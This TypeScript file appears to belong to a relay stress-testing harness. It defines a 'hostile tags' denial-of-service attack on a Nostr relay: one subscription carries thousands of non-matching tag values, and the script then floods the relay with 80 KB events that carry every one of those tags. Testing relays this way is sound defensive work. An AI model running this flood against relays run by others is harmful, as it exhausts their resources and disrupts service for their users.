import { setTimeout as delay } from 'node:timers/promises'
import { writer } from '../../nostr/signed-event.ts'
import type { Attack } from '../attack.ts'

const values = (letter: string, count: number) => Array.from({ length: count }, (_, at) => `${letter}${at}`)

/** A filter that every tag of an event hits and none satisfies, and events with all of those tags. */
export const hostileTags: Attack = {
  name: 'hostile tags',
  tries: 'one subscription whose filter costs tags × values to judge, and one event of 80 KB after the other',
  async run(stage) {
    const subscriber = await stage.open(0)
    const publisher = await stage.open(1)
    if (!subscriber || !publisher) return { seen: 'connections refused' }
    subscriber.send(JSON.stringify(['REQ', 's', { '#a': values('a', 1660), '#b': values('never', 3330), limit: 0 }]))
    await delay(200)
    const tags = [...values('a', 1660).map(value => ['a', value]), ...values('b', 3330).map(value => ['b', value])]
    const author = writer('hostile tags')
    let sent = 0
    for (; !stage.signal.aborted; sent++) {
      publisher.send(`["EVENT",${author.write({ kind: 20_001, tags, content: String(sent) })}]`)
      await delay(100)
    }
    return { seen: `${sent} events` }
  },
}
